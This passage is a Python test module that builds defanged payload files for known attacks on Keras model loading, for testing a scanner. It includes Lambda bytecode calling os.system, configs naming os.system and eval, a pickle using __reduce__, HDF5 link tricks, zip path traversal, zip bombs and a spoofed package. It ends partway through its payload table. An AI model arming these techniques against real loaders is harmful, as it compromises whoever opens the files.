"""Build one harmless payload file per known attack on Keras model loading.

Run from the repository root::

    python -m tests.malicious.payloads OUT_DIR

Each payload is written to ``OUT_DIR/<filename>`` and gets a sandbox directory,
``OUT_DIR/sandbox/<name>/``; ``OUT_DIR/manifest.json`` lists every payload with absolute paths.

Harmless means: if a loader follows what a payload carries, the only effect is an empty marker
file appearing in that payload's sandbox, or a file of the sandbox holding the number
:data:`LEAK_VALUE` being read into the weights. Payloads are real Keras saves, edited where an
attacker would edit them (``config.json``, the ``model_config`` attribute of ``.h5``, the weights
HDF5, the zip archive itself).

:data:`LOOKALIKES` are legitimate models that resemble payloads (inline vocabularies, a Lambda
calling a Keras function): scan must not flag them and Keras must load them.

Importing this module imports neither Keras nor h5py: the tests read :data:`PAYLOADS` while
collecting, and build the files in a subprocess.
"""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import pickle
import struct
import sys
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any, NamedTuple

__all__ = ["LEAK_VALUE", "LOOKALIKES", "PAYLOADS", "Payload", "build_all", "main"]

LEAK_VALUE = 1234.5  # what every "outside" file of a sandbox holds (exact in float32)
_SHAPE = (4, 3)  # the kernel of the Dense layer every weights payload tampers with
_BOMB_SHAPE = (1 << 20, 1 << 20)  # 4 TiB of float32, stored as nothing
_BOMB_DECLARED = 0xF0000000  # 3.75 GiB declared by a zip member that stores a few bytes
_NESTED_MODELS = 150  # Sequential inside Sequential: far deeper than any real model
_JSON_DEPTH = 20_000  # nested JSON arrays: deeper than Python's json module can parse


class Payload(NamedTuple):
    """One attack, as a file to build and what must happen when it is scanned and loaded.

    Attributes:
        name: Stable identifier, also the pytest id.
        filename: The payload file's name in the output directory.
        advisory: CVE / GHSA identifiers, or ``hardening`` when no advisory exists.
        attack: The attack class, in words.
        kinds: Scan finding kinds kerascope must report at severity ``high``.
        does: What the payload does when a loader follows it, and why that is harmless.
        build: Writes the payload file: ``build(payload, out_dir)``.
        load_reasons: Problem reasons ``kerascope.load_model`` must list (default: ``kinds``).
        marker_name: The file in the sandbox that appears only if the payload ran.
        from_sandbox: Loads must run with the sandbox as working directory (spoofing).
        try_unsafe: A Lambda payload: the table also loads it with ``safe_mode=False``.
        leaks: Points the weights at a sandbox file holding :data:`LEAK_VALUE`.
        canary_name: A sandbox file the payload makes a loader read: its access time, set in
            the past before each load, says whether it was read.
    """

    name: str
    filename: str
    advisory: str
    attack: str
    kinds: tuple[str, ...]
    does: str
    build: Callable[[Payload, Path], None]
    load_reasons: tuple[str, ...] | None = None
    marker_name: str = "marker"
    from_sandbox: bool = False
    try_unsafe: bool = False
    leaks: bool = False
    canary_name: str | None = None

    def path(self, out: Path) -> Path:
        """The payload file."""
        return out / self.filename

    def sandbox(self, out: Path) -> Path:
        """The only directory the payload may touch; also the temporary directory of loads."""
        return out / "sandbox" / self.name

    def marker(self, out: Path) -> Path:
        """The file that exists only if the payload ran."""
        return self.sandbox(out) / self.marker_name

    @property
    def reasons(self) -> tuple[str, ...]:
        """The problem reasons ``kerascope.load_model`` must list."""
        return self.load_reasons if self.load_reasons is not None else self.kinds

    def to_dict(self, out: Path) -> dict[str, Any]:
        """The manifest entry: everything needed to run the payload, with absolute paths.

        Example:
            >>> PAYLOADS[0].to_dict(Path("/x"))["path"]
            '/x/lambda.keras'
        """
        sandbox = str(self.sandbox(out))
        return {
            "name": self.name,
            "path": str(self.path(out)),
            "advisory": self.advisory,
            "attack": self.attack,
            "kinds": list(self.kinds),
            "load_reasons": list(self.reasons),
            "does": self.does,
            "marker": str(self.marker(out)),
            "tmpdir": sandbox,
            "cwd": sandbox if self.from_sandbox else None,
            "pythonpath": [],
            "try_unsafe": self.try_unsafe,
            "leak_value": LEAK_VALUE if self.leaks else None,
            "canary": str(self.sandbox(out) / self.canary_name) if self.canary_name else None,
        }


# --- Keras models and file surgery ----------------------------------------------------------------


def _keras() -> Any:
    os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
    import logging

    import keras

    logging.getLogger("absl").setLevel(logging.ERROR)  # the "HDF5 is legacy" warning
    return keras


def _dense_model(*extra: Any) -> Any:
    keras = _keras()
    return keras.Sequential([keras.Input((_SHAPE[0],)), keras.layers.Dense(_SHAPE[1]), *extra])


def _touching_lambda(marker: Path) -> Callable[[Any], Any]:
    """A Python lambda whose bytecode creates ``marker`` each time it is called."""
    source = f"lambda x: (open({str(marker)!r}, 'w').close(), x)[1]"
    function: Callable[[Any], Any] = eval(source)
    return function


def _save(model: Any, payload: Payload, out: Path) -> Path:
    path = payload.path(out)
    model.save(path)
    payload.marker(out).unlink(missing_ok=True)  # building a model calls its lambdas once
    return path


def _members(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {info.filename: archive.read(info) for info in archive.infolist()}


def _write_members(path: Path, members: dict[str, bytes]) -> None:
    """Write a zip the way Keras does: every member stored, uncompressed."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_STORED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)


def _edit_config(path: Path, edit: Callable[[dict[str, Any]], None]) -> None:
    """Edit ``config.json`` of a ``.keras`` file or the ``model_config`` attribute of ``.h5``."""
    if path.suffix == ".keras":
        members = _members(path)
        config = json.loads(members["config.json"])
        edit(config)
        members["config.json"] = json.dumps(config).encode()
        _write_members(path, members)
        return
    import h5py

    with h5py.File(path, "r+") as handle:
        config = json.loads(handle.attrs["model_config"])
        edit(config)
        handle.attrs["model_config"] = json.dumps(config)


def _edit_weights(path: Path, edit: Callable[[Any, str], None]) -> None:
    """Edit the weights HDF5 (inside a ``.keras`` archive, or the ``.h5`` file itself).

    ``edit(h5_file, kernel_path)`` gets the open file and the path of the Dense kernel.
    """
    import h5py

    def apply(h5_path: Path) -> None:
        with h5py.File(h5_path, "r+") as handle:
            found: list[str] = []
            handle.visititems(
                lambda name, item: (
                    found.append(name)
                    if isinstance(item, h5py.Dataset) and item.shape == _SHAPE
                    else None
                )
            )
            edit(handle, found[0])

    if path.suffix != ".keras":
        apply(path)
        return
    members = _members(path)
    with tempfile.TemporaryDirectory() as scratch:
        weights = Path(scratch) / "model.weights.h5"
        weights.write_bytes(members["model.weights.h5"])
        apply(weights)
        members["model.weights.h5"] = weights.read_bytes()
    _write_members(path, members)


def _layers(config: dict[str, Any]) -> list[dict[str, Any]]:
    layers: list[dict[str, Any]] = config["config"]["layers"]
    return layers


def _entry(path: Path, module: str, class_name: str, inner: dict[str, Any]) -> dict[str, Any]:
    """A layer entry as the format of ``path`` writes it (``.h5`` entries have no module)."""
    if path.suffix == ".h5":
        return {"class_name": class_name, "config": inner}
    return {"module": module, "class_name": class_name, "config": inner, "registered_name": None}


def _replace_last_layer(path: Path, entry: dict[str, Any]) -> None:
    def edit(config: dict[str, Any]) -> None:
        _layers(config)[-1] = entry

    _edit_config(path, edit)


def _function(module: str, name: str) -> dict[str, Any]:
    return {
        "module": module,
        "class_name": "function",
        "config": name,
        "registered_name": "function",
    }


def _outside_h5(sandbox: Path) -> Path:
    import h5py
    import numpy as np

    secret = sandbox / "outside.h5"
    with h5py.File(secret, "w") as handle:
        handle["secret"] = np.full(_SHAPE, LEAK_VALUE, dtype="float32")
    return secret


# --- builders, one per attack ---------------------------------------------------------------------


def _lambda(payload: Payload, out: Path) -> None:
    """Sequential model with a Lambda layer whose bytecode touches the marker."""
    keras = _keras()
    _save(_dense_model(keras.layers.Lambda(_touching_lambda(payload.marker(out)))), payload, out)


def _lambda_list_form(payload: Payload, out: Path) -> None:
    """The same Lambda, rewritten in the tf.keras .h5 form ``[code, defaults, closure]``."""
    _lambda(payload, out)

    def edit(config: dict[str, Any]) -> None:
        inner = _layers(config)[-1]["config"]
        inner["function"] = [inner["function"]["config"]["code"], None, None]
        inner.update(function_type="lambda", module="__main__", output_shape_type="raw")

    _edit_config(payload.path(out), edit)


def _system_function(marker: Path) -> Callable[[Any], Any]:
    """A named function (a ``def``) whose bytecode runs ``os.system('touch <marker>')``."""
    namespace: dict[str, Any] = {"os": os}
    source = f"def scale(x):\n    os.system({'touch ' + str(marker)!r})\n    return x\n"
    exec(source, namespace)  # the harmless payload itself
    function: Callable[[Any], Any] = namespace["scale"]
    return function


def _lambda_os_system(payload: Payload, out: Path) -> None:
    """A Keras 2 (tf-keras list form) .h5 Lambda whose bytecode, a ``def``, calls os.system."""
    keras = _keras()
    _save(_dense_model(keras.layers.Lambda(lambda x: x)), payload, out)
    code = marshal.dumps(_system_function(payload.marker(out)).__code__)

    def edit(config: dict[str, Any]) -> None:
        inner = _layers(config)[-1]["config"]
        inner["function"] = [base64.b64encode(code).decode("ascii"), None, None]
        inner.update(function_type="lambda", module="preprocessing", output_shape_type="raw")

    _edit_config(payload.path(out), edit)


def _stdlib_layer(payload: Payload, out: Path) -> None:
    """Functional model whose Dense layer entry names ``os.system`` (CVE-2025-1550 shape)."""
    keras = _keras()
    inputs = keras.Input((_SHAPE[0],))
    model = keras.Model(inputs, keras.layers.Dense(_SHAPE[1], name="dense")(inputs))
    path = _save(model, payload, out)

    def edit(config: dict[str, Any]) -> None:
        entry = next(e for e in _layers(config) if e.get("name") == "dense")
        entry.update(module="os", class_name="system", registered_name=None)
        entry["config"] = {"name": "dense", "command": f"touch {payload.marker(out)}"}

    _edit_config(path, edit)


def _activation(module: str, name: str) -> Callable[[Payload, Path], None]:
    """Dense model whose activation names ``module.name`` as a function."""

    def build(payload: Payload, out: Path) -> None:
        path = _save(_dense_model(), payload, out)

        def edit(config: dict[str, Any]) -> None:
            _layers(config)[-1]["config"]["activation"] = _function(module, name)

        _edit_config(path, edit)

    return build


def _get_file(payload: Payload, out: Path) -> None:
    """Lambda whose function is ``keras.utils.get_file``, copying a sandbox file to the marker."""
    keras = _keras()
    sandbox = payload.sandbox(out)
    source = sandbox / "download-source.txt"
    source.write_text("harmless: kerascope security test\n")
    path = _save(_dense_model(keras.layers.Lambda(keras.activations.relu)), payload, out)

    def edit(config: dict[str, Any]) -> None:
        inner = _layers(config)[-1]["config"]
        inner["function"] = _function("keras.utils", "get_file")
        inner["arguments"] = {
            "fname": payload.marker_name,
            "origin": source.as_uri(),
            "cache_dir": str(sandbox),
            "cache_subdir": "",
        }

    _edit_config(path, edit)


def _enable_unsafe(payload: Payload, out: Path) -> None:
    """CVE-2025-9906 chain: a Lambda turns safe mode off, then a bytecode Lambda runs."""
    keras = _keras()
    lambdas = (
        keras.layers.Lambda(keras.activations.relu),
        keras.layers.Lambda(_touching_lambda(payload.marker(out))),
    )
    path = _save(_dense_model(*lambdas), payload, out)

    def edit(config: dict[str, Any]) -> None:
        _layers(config)[-2]["config"]["function"] = _function(
            "keras.config", "enable_unsafe_deserialization"
        )

    _edit_config(path, edit)


class _TouchOnUnpickle:
    """Unpickling what this pickles calls ``open(marker, "w")``: it creates the marker."""

    def __init__(self, marker: str) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, tuple[str, str]]:
        return (open, (self.marker, "w"))


def _torch_wrapper(payload: Payload, out: Path) -> None:
    """TorchModuleWrapper entry whose ``module`` is a base64 pickle touching the marker."""
    path = _save(_dense_model(), payload, out)
    pickled = pickle.dumps(_TouchOnUnpickle(str(payload.marker(out))), protocol=4)
    inner = {
        "name": "torch_module_wrapper",
        "trainable": True,
        "dtype": "float32",
        "module": base64.b64encode(pickled).decode("ascii"),
        "output_shape": None,
    }
    _replace_last_layer(path, _entry(path, "keras.layers", "TorchModuleWrapper", inner))


def _tfsm_layer(payload: Payload, out: Path) -> None:
    """TFSMLayer entry whose ``filepath`` points at a SavedModel outside the file."""
    path = _save(_dense_model(), payload, out)
    inner = {
        "name": "tfsm_layer",
        "trainable": False,
        "dtype": "float32",
        "filepath": str(payload.sandbox(out) / "outside_savedmodel"),
        "call_endpoint": "serving_default",
        "call_training_endpoint": None,
    }
    _replace_last_layer(path, _entry(path, "keras.layers", "TFSMLayer", inner))


def _lookup(layer: str, vocabulary: list[Any]) -> Callable[[Payload, Path], None]:
    """StringLookup / IntegerLookup whose ``vocabulary`` becomes a path to a sandbox file."""

    def build(payload: Payload, out: Path) -> None:
        keras = _keras()
        dtype = "string" if layer == "StringLookup" else "int64"
        lookup = getattr(keras.layers, layer)(vocabulary=vocabulary)
        path = _save(keras.Sequential([keras.Input((1,), dtype=dtype), lookup]), payload, out)
        secret = payload.sandbox(out) / "vocabulary.txt"
        secret.write_text("".join(f"{token}\n" for token in (*vocabulary, 1234)))

        def edit(config: dict[str, Any]) -> None:
            _layers(config)[-1]["config"]["vocabulary"] = str(secret)

        _edit_config(path, edit)

    return build


def _weights(tamper: Callable[[Any, str, Path], None]) -> Callable[[Payload, Path], None]:
    """Dense model whose kernel dataset ``tamper(h5_file, kernel_path, sandbox)`` replaces."""

    def build(payload: Payload, out: Path) -> None:
        path = _save(_dense_model(), payload, out)
        _edit_weights(path, lambda handle, kernel: tamper(handle, kernel, payload.sandbox(out)))

    return build


def _external_link(handle: Any, kernel: str, sandbox: Path) -> None:
    import h5py

    secret = _outside_h5(sandbox)
    del handle[kernel]
    handle[kernel] = h5py.ExternalLink(str(secret), "/secret")


def _soft_link(handle: Any, kernel: str, sandbox: Path) -> None:
    import h5py

    handle["stash"] = handle[kernel][()]
    del handle[kernel]
    handle[kernel] = h5py.SoftLink("/stash")


def _external_storage(handle: Any, kernel: str, sandbox: Path) -> None:
    import numpy as np

    raw = sandbox / "outside.bin"
    raw.write_bytes(np.full(_SHAPE, LEAK_VALUE, dtype="<f4").tobytes())
    del handle[kernel]
    handle.create_dataset(kernel, shape=_SHAPE, dtype="<f4", external=[(str(raw), 0, 48)])


def _virtual_dataset(handle: Any, kernel: str, sandbox: Path) -> None:
    import h5py

    layout = h5py.VirtualLayout(shape=_SHAPE, dtype="float32")
    layout[...] = h5py.VirtualSource(str(_outside_h5(sandbox)), "secret", shape=_SHAPE)
    del handle[kernel]
    handle.create_virtual_dataset(kernel, layout)


def _shape_bomb(handle: Any, kernel: str, sandbox: Path) -> None:
    del handle[kernel]
    handle.create_dataset(
        kernel, shape=_BOMB_SHAPE, dtype="float32", chunks=(1024, 1024), compression="gzip"
    )


def _extra_member(name: str) -> Callable[[Payload, Path], None]:
    """A .keras archive with one more member, named to escape the extraction directory."""

    def build(payload: Payload, out: Path) -> None:
        path = _save(_dense_model(), payload, out)
        members = _members(path)
        members[name] = b"harmless: kerascope path traversal test\n"
        _write_members(path, members)

    return build


def _zip_bomb(payload: Payload, out: Path) -> None:
    """A .keras archive with a member declaring 3.75 GiB while storing a few bytes."""
    path = _save(_dense_model(), payload, out)
    name = "assets/bomb.bin"
    with zipfile.ZipFile(path, "a") as archive:
        archive.writestr(name, bytes(65536), compress_type=zipfile.ZIP_DEFLATED)
    _declare_size(path, name, _BOMB_DECLARED)


def _declare_size(path: Path, name: str, size: int) -> None:
    """Overwrite the uncompressed size of one member, in its local and central headers."""
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(path) as archive:
        struct.pack_into("<L", data, archive.getinfo(name).header_offset + 22, size)
    end = data.rfind(b"PK\x05\x06")
    count, _, position = struct.unpack_from("<HLL", data, end + 10)
    for _ in range(count):
        name_length, extra_length, comment_length = struct.unpack_from("<3H", data, position + 28)
        if data[position + 46 : position + 46 + name_length] == name.encode():
            struct.pack_into("<L", data, position + 24, size)
        position += 46 + name_length + extra_length + comment_length
    path.write_bytes(bytes(data))


def _nested_models(payload: Payload, out: Path) -> None:
    """The Dense layer wrapped in 150 Sequential models, one inside the other (Keras cannot save
    such a model, RecursionError, but loads it)."""
    path = _save(_dense_model(), payload, out)
    members = _members(path)
    config = json.loads(members["config.json"])
    nested = json.dumps(_layers(config)[-1])
    for level in range(_NESTED_MODELS):
        nested = (
            '{"module": "keras", "class_name": "Sequential", "registered_name": null, '
            f'"config": {{"name": "nest{level}", "trainable": true, "layers": [{nested}]}}}}'
        )
    _layers(config)[-1] = "@NESTED@"  # json.dumps itself would recurse too deeply
    members["config.json"] = json.dumps(config).replace('"@NESTED@"', nested).encode()
    _write_members(path, members)

    def move_weights(handle: Any, kernel: str) -> None:  # where Keras looks for them now
        handle.copy(
            handle["layers/dense"], "layers" + "/sequential/layers" * _NESTED_MODELS + "/dense"
        )
        del handle["layers/dense"]

    _edit_weights(path, move_weights)


def _deep_json(payload: Payload, out: Path) -> None:
    """An .h5 whose ``model_config`` nests JSON arrays 20,000 deep."""
    import h5py

    path = _save(_dense_model(), payload, out)
    deep = "[" * _JSON_DEPTH + "]" * _JSON_DEPTH
    with h5py.File(path, "r+") as handle:
        handle.attrs["model_config"] = (
            f'{{"class_name": "Sequential", "config": {{"name": "deep", "layers": {deep}}}}}'
        )


def _spoofed_keras_hub(payload: Payload, out: Path) -> None:
    """A layer from ``keras_hub.src.models.evil``, and a fake ``keras_hub`` in the sandbox."""
    path = _save(_dense_model(), payload, out)

    def edit(config: dict[str, Any]) -> None:
        _layers(config).append(
            {
                "module": "keras_hub.src.models.evil",
                "class_name": "Evil",
                "config": {"name": "evil"},
                "registered_name": "keras_hub>Evil",
            }
        )

    _edit_config(path, edit)
    package = payload.sandbox(out) / "keras_hub"
    (package / "src" / "models").mkdir(parents=True)
    (package / "__init__.py").write_text(
        '"""Not keras-hub: kerascope security test. Importing it creates a marker file."""\n\n'
        f"open({str(payload.marker(out))!r}, 'w').close()\n"
    )
    (package / "src" / "__init__.py").write_text("")
    (package / "src" / "models" / "__init__.py").write_text("")
    (package / "src" / "models" / "evil.py").write_text('"""Defines nothing."""\n')


# --- unzipped model directories --------------------------------------------------------------------


def _directory(
    model: Callable[[], Any], tamper: Callable[[Path, Path], None]
) -> Callable[[Payload, Path], None]:
    """An unzipped .keras directory of ``model()``, then ``tamper(directory, sandbox)``."""

    def build(payload: Payload, out: Path) -> None:
        directory = payload.path(out)
        with tempfile.TemporaryDirectory() as scratch:
            archive = Path(scratch) / "model.keras"
            model().save(archive)
            with zipfile.ZipFile(archive) as opened:
                opened.extractall(directory)
        tamper(directory, payload.sandbox(out))

    return build


def _leaking_weights(directory: Path, sandbox: Path) -> Path:
    """A copy of the directory's weights in the sandbox, every kernel value LEAK_VALUE."""
    import h5py

    outside = sandbox / "outside.weights.h5"
    outside.write_bytes((directory / "model.weights.h5").read_bytes())
    with h5py.File(outside, "r+") as handle:
        handle.visititems(
            lambda name, item: (
                item.__setitem__(Ellipsis, LEAK_VALUE)
                if isinstance(item, h5py.Dataset) and item.shape == _SHAPE
                else None
            )
        )
    (directory / "model.weights.h5").unlink()
    return outside


def _symlinked_weights(directory: Path, sandbox: Path) -> None:
    (directory / "model.weights.h5").symlink_to(_leaking_weights(directory, sandbox))


def _hard_linked_weights(directory: Path, sandbox: Path) -> None:
    os.link(_leaking_weights(directory, sandbox), directory / "model.weights.h5")


def _adapted_lookup() -> Any:
    keras = _keras()
    lookup = keras.layers.StringLookup()
    lookup.adapt(["a", "b", "b"])
    return keras.Sequential([keras.Input((1,), dtype="string"), lookup])


def _symlinked_asset(directory: Path, sandbox: Path) -> None:
    [vocabulary] = directory.glob("assets/**/vocabulary.txt")
    canary = sandbox / "outside_vocabulary.txt"
    canary.write_text("a\nb\nleaked\n")
    vocabulary.unlink()
    vocabulary.symlink_to(canary)


# --- Keras callables, .npz weights, allocation bombs ---------------------------------------------


def _callable_lambda(module: str, name: str, **arguments: Any) -> Callable[[Payload, Path], None]:
    """A Lambda whose function is the public Keras callable ``module.name``."""

    def build(payload: Payload, out: Path) -> None:
        keras = _keras()
        path = _save(_dense_model(keras.layers.Lambda(keras.activations.relu)), payload, out)
        sandbox = payload.sandbox(out)
        if payload.canary_name:
            (sandbox / payload.canary_name).write_text("harmless: kerascope canary\n")
        values = {key: value.replace("<sandbox>", str(sandbox)) for key, value in arguments.items()}

        def edit(config: dict[str, Any]) -> None:
            inner = _layers(config)[-1]["config"]
            inner["function"] = _function(module, name)
            inner["arguments"] = values

        _edit_config(path, edit)

    return build


def _dense_bomb(payload: Payload, out: Path) -> None:
    """Input width and Dense units both 2^20: a 4 TiB kernel, from the config alone."""
    path = _save(_dense_model(), payload, out)

    def edit(config: dict[str, Any]) -> None:
        wide = [None, _BOMB_SHAPE[0]]
        _layers(config)[0]["config"]["batch_shape"] = wide
        _layers(config)[-1]["config"]["units"] = _BOMB_SHAPE[1]
        for entry in (config, _layers(config)[-1]):  # what Keras builds the layers with
            entry["build_config"] = {"input_shape": wide}

    _edit_config(path, edit)


def _npy(descr: str, shape: tuple[int, ...], data: bytes) -> bytes:
    """A .npy file with this header and these bytes, written by hand (no numpy needed)."""
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape}, }}"
    padding = -(10 + len(header) + 1) % 64
    text = (header + " " * padding + "\n").encode("latin-1")
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text + data


def _npz_weights(
    arrays: Callable[[Payload, Path], dict[str, bytes]],
) -> Callable[[Payload, Path], None]:
    """A .keras whose weights are ``model.weights.npz`` holding ``arrays(payload, out)``."""

    def build(payload: Payload, out: Path) -> None:
        path = _save(_dense_model(), payload, out)
        members = _members(path)
        del members["model.weights.h5"]
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as npz:
            for name, data in arrays(payload, out).items():
                npz.writestr(name, data)
        members["model.weights.npz"] = buffer.getvalue()
        _write_members(path, members)

    return build


def _pickled_arrays(payload: Payload, out: Path) -> dict[str, bytes]:
    pickled = pickle.dumps(_TouchOnUnpickle(str(payload.marker(out))), protocol=4)
    return {"layers/dense.npy": _npy("|O", (), pickled)}


def _bomb_arrays(payload: Payload, out: Path) -> dict[str, bytes]:
    return {"layers/dense.npy": _npy("<f4", _BOMB_SHAPE, bytes(16))}


def _group_cycle(handle: Any, kernel: str, sandbox: Path) -> None:
    """A hard link from the Dense layer's group back to its parent: the tree is a cycle."""
    parent = kernel.rsplit("/", 2)[0]
    handle[f"{parent}/loop"] = handle[parent.rsplit("/", 1)[0] or "/"]


# --- the payloads ---------------------------------------------------------------------------------

_LAMBDA = "Lambda layer holding Python bytecode"
# Their bytecode calls open(): refused with safe_mode=False too (kerascope._audit.scan_lambda).
_LAMBDA_OPEN = ("lambda", "lambda-bytecode-dangerous-names")
_STDLIB = "config names a standard-library function as a layer or activation"
_GADGET = "Keras non-modeling API used as a gadget"
_TORCH = "TorchModuleWrapper carrying a base64 pickle"
_TFSM = "TFSMLayer loading a SavedModel from outside the file"
_VOCABULARY = "lookup layer reading its vocabulary from a local path"
_TRAVERSAL = "archive member path escaping the archive"
_NESTING = "config nested beyond a sane depth"
_LINKS = "GHSA-m8wh-29wm-52mv"
_STORAGE = "GHSA-3m4q-jmj6-r34q"
_VIRTUAL = "GHSA-26c4-7vv6-867j"
_BOMB = "CVE-2026-0897, GHSA-74m6-m3xx-3vmj"
_TOUCH = "its bytecode creates the sandbox marker when the layer is called"
_DIRECTORY = "unzipped model directory member that is not a regular file"
_CALLABLE = "public Keras callable that is not a modeling object"
_KERAS_CALLABLE_ADVISORY = "hardening (Keras's non-modeling list misses it)"

PAYLOADS: tuple[Payload, ...] = (
    Payload("lambda-keras", "lambda.keras", "CVE-2024-3660", _LAMBDA, _LAMBDA_OPEN,
            f"Lambda(lambda x: ...) saved by Keras; {_TOUCH}", _lambda, try_unsafe=True),
    Payload("lambda-h5", "lambda.h5", "CVE-2024-3660, CVE-2025-9905", _LAMBDA + " (legacy .h5)",
            _LAMBDA_OPEN, f"the same Lambda saved as legacy .h5; {_TOUCH}", _lambda,
            try_unsafe=True),
    Payload("lambda-h5-list-form", "lambda_list_form.h5", "CVE-2024-3660, CVE-2025-9905",
            _LAMBDA + " (tf.keras list form in .h5)", _LAMBDA_OPEN,
            f"the Lambda rewritten as tf.keras writes it, [code, defaults, closure]; {_TOUCH}",
            _lambda_list_form, try_unsafe=True),
    Payload("lambda-os-system-h5", "lambda_os_system.h5", "CVE-2024-3660, CVE-2025-9905",
            _LAMBDA + " (Keras 2 named function calling os.system, .h5)",
            ("lambda", "lambda-bytecode-dangerous-names"),
            "a tf-keras Lambda over a def whose bytecode runs os.system('touch <sandbox marker>')",
            _lambda_os_system, try_unsafe=True),
    Payload("stdlib-layer-keras", "stdlib_layer.keras", "CVE-2025-1550", _STDLIB,
            ("stdlib-object",),
            "a layer entry names os.system with the command 'touch <sandbox marker>'",
            _stdlib_layer),
    Payload("eval-activation-keras", "eval_activation.keras", "CVE-2025-1550", _STDLIB,
            ("dangerous-function",),
            "a Dense activation names builtins eval; called on a tensor it can only fail",
            _activation("builtins", "eval")),
    Payload("stdlib-activation-h5", "stdlib_activation.h5", "CVE-2025-1550",
            _STDLIB + " (legacy .h5)", ("stdlib-object",),
            "a Dense activation names os.system; called on a tensor it can only fail",
            _activation("os", "system")),
    Payload("get-file-keras", "get_file.keras", "CVE-2025-8747", _GADGET + " (get_file)",
            ("non-modeling-api",),
            "a Lambda calls keras.utils.get_file to copy a sandbox file (file:// URL) to the "
            "sandbox marker", _get_file),
    Payload("get-file-h5", "get_file.h5", "CVE-2025-8747", _GADGET + " (get_file, legacy .h5)",
            ("non-modeling-api",), "the same get_file Lambda in legacy .h5", _get_file),
    Payload("enable-unsafe-keras", "enable_unsafe.keras", "CVE-2025-9906",
            _GADGET + " (enable_unsafe_deserialization)", ("non-modeling-api", "lambda"),
            "a Lambda calls keras.config.enable_unsafe_deserialization, then a second Lambda's "
            "bytecode creates the sandbox marker", _enable_unsafe),
    Payload("torch-wrapper-keras", "torch_wrapper.keras", "CVE-2025-49655, CVE-2026-12484",
            _TORCH, ("outside-loader", "pickle"),
            "the pickle calls open(<sandbox marker>, 'w') when unpickled", _torch_wrapper),
    Payload("torch-wrapper-h5", "torch_wrapper.h5", "CVE-2025-49655, CVE-2026-12484",
            _TORCH + " (legacy .h5)", ("outside-loader", "pickle"),
            "the same pickle in a legacy .h5 layer entry", _torch_wrapper),
    Payload("tfsm-layer-keras", "tfsm_layer.keras", "CVE-2026-1462", _TFSM, ("outside-loader",),
            "filepath points at a sandbox directory that does not exist", _tfsm_layer),
    Payload("tfsm-layer-h5", "tfsm_layer.h5", "CVE-2026-1462", _TFSM + " (legacy .h5)",
            ("outside-loader",), "the same TFSMLayer entry in legacy .h5", _tfsm_layer),
    Payload("string-lookup-keras", "string_lookup.keras", "CVE-2025-12058", _VOCABULARY,
            ("vocabulary-path",), "StringLookup vocabulary = path of a sandbox text file",
            _lookup("StringLookup", ["a", "b"])),
    Payload("integer-lookup-keras", "integer_lookup.keras", "CVE-2025-12058", _VOCABULARY,
            ("vocabulary-path",), "IntegerLookup vocabulary = path of a sandbox text file",
            _lookup("IntegerLookup", [1, 2])),
    Payload("string-lookup-h5", "string_lookup.h5", "CVE-2025-12058",
            _VOCABULARY + " (legacy .h5)", ("vocabulary-path",),
            "the same StringLookup in legacy .h5", _lookup("StringLookup", ["a", "b"])),
    Payload("hdf5-external-link-keras", "hdf5_external_link.keras", _LINKS,
            "weights HDF5 with an external link", ("hdf5-external-link",),
            "the kernel is an external link to a sandbox HDF5 file holding 1234.5",
            _weights(_external_link), leaks=True),
    Payload("hdf5-external-link-h5", "hdf5_external_link.h5", _LINKS,
            "weights HDF5 with an external link (legacy .h5)", ("hdf5-external-link",),
            "the same external link in legacy .h5", _weights(_external_link), leaks=True),
    Payload("hdf5-soft-link-keras", "hdf5_soft_link.keras", _LINKS,
            "weights HDF5 with a soft link", ("hdf5-soft-link",),
            "the kernel is a soft link to another dataset of the same file",
            _weights(_soft_link)),
    Payload("hdf5-external-storage-keras", "hdf5_external_storage.keras", _STORAGE,
            "weights dataset stored in an outside file", ("hdf5-external-storage",),
            "the kernel's bytes live in a sandbox file holding 1234.5",
            _weights(_external_storage), leaks=True),
    Payload("hdf5-external-storage-h5", "hdf5_external_storage.h5", _STORAGE,
            "weights dataset stored in an outside file (legacy .h5)", ("hdf5-external-storage",),
            "the same external storage in legacy .h5", _weights(_external_storage), leaks=True),
    Payload("hdf5-virtual-dataset-keras", "hdf5_virtual_dataset.keras", _VIRTUAL,
            "weights virtual dataset mapping an outside file", ("hdf5-virtual-dataset",),
            "the kernel is a virtual dataset over a sandbox HDF5 file holding 1234.5",
            _weights(_virtual_dataset), leaks=True),
    Payload("hdf5-virtual-dataset-h5", "hdf5_virtual_dataset.h5", _VIRTUAL,
            "weights virtual dataset mapping an outside file (legacy .h5)",
            ("hdf5-virtual-dataset",), "the same virtual dataset in legacy .h5",
            _weights(_virtual_dataset), leaks=True),
    Payload("hdf5-shape-bomb-keras", "hdf5_shape_bomb.keras", _BOMB,
            "weights dataset declaring a huge shape", ("hdf5-shape-bomb",),
            "the kernel declares 2^20 x 2^20 float32 (4 TiB) and stores no chunk; the machine "
            "refuses such an allocation at once", _weights(_shape_bomb)),
    Payload("hdf5-shape-bomb-h5", "hdf5_shape_bomb.h5", _BOMB,
            "weights dataset declaring a huge shape (legacy .h5)", ("hdf5-shape-bomb",),
            "the same shape bomb in legacy .h5", _weights(_shape_bomb)),
    Payload("traversal-assets-keras", "traversal_assets.keras", "CVE-2026-12479", _TRAVERSAL,
            ("path-traversal",),
            "member 'assets/../../evil.txt': extracted carelessly it lands in the sandbox (the "
            "loads' temporary directory)", _extra_member("assets/../../evil.txt"),
            marker_name="evil.txt"),
    Payload("traversal-parent-keras", "traversal_parent.keras", "CVE-2026-12479", _TRAVERSAL,
            ("path-traversal",), "member '../evil.txt', same landing place",
            _extra_member("../evil.txt"), marker_name="evil.txt"),
    Payload("zip-bomb-keras", "zip_bomb.keras", "hardening (keras #23010, #23101)",
            "zip member declaring a huge uncompressed size", ("zip-bomb",),
            "member 'assets/bomb.bin' declares 3.75 GiB and stores 64 KiB of zeros, deflated",
            _zip_bomb),
